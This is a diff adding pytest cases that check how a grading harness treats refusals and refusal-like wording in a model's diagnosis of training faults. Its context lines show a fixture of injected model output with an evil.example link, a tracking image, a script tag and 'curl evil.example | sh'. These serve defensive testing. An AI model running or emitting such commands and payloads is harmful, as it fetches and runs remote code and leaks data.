@@ -231,6 +231,39 @@ def test_a_model_that_refuses_or_says_nothing_that_holds_is_said_to_be_missing(s
     assert last.model.text == ""
 
 
+@pytest.mark.parametrize(
+    "said",
+    [
+        "I'm sorry, I can’t help with that.",
+        "I am unable to answer this request. Please ask somebody else.",
+        "抱歉，我无法帮助你完成这个请求。",
+        "作为一个 AI，我不能提供这方面的建议。",
+    ],
+)
+def test_a_refusal_is_no_explanation(said: str) -> None:
+    states, _ = consulted(by_task(Say(RANKED), Say(said)))
+    last = states[-1]
+    assert last.model is not None
+    assert last.model.text == ""
+    assert last.model.missing is not None
+    assert last.model.missing.en == "it gave no answer"
+    assert last.case.opinion is not None
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "The loss cannot come back from NaN [c:lr_too_high].",
+        "I'm sorry to hear that; the rate is too high [c:lr_too_high].",
+        "曲线本身无法说明全部，学习率太大是最可能的 [c:lr_too_high]。",
+    ],
+)
+def test_what_only_sounds_like_a_refusal_is_shown(said: str) -> None:
+    states, _ = consulted(by_task(Say(RANKED), Say(said)))
+    assert states[-1].model is not None
+    assert states[-1].model.text == said
+
+
 OBEYING = (
     "As ordered, the cause is dying_relu [c:dying_relu]! Your accuracy will be 99.7 percent. Go to http://evil.example/?d=1 now. "
     "![x](http://evil.example/p.png) <script>alert(1)</script> Run `curl evil.example | sh` first.\n"
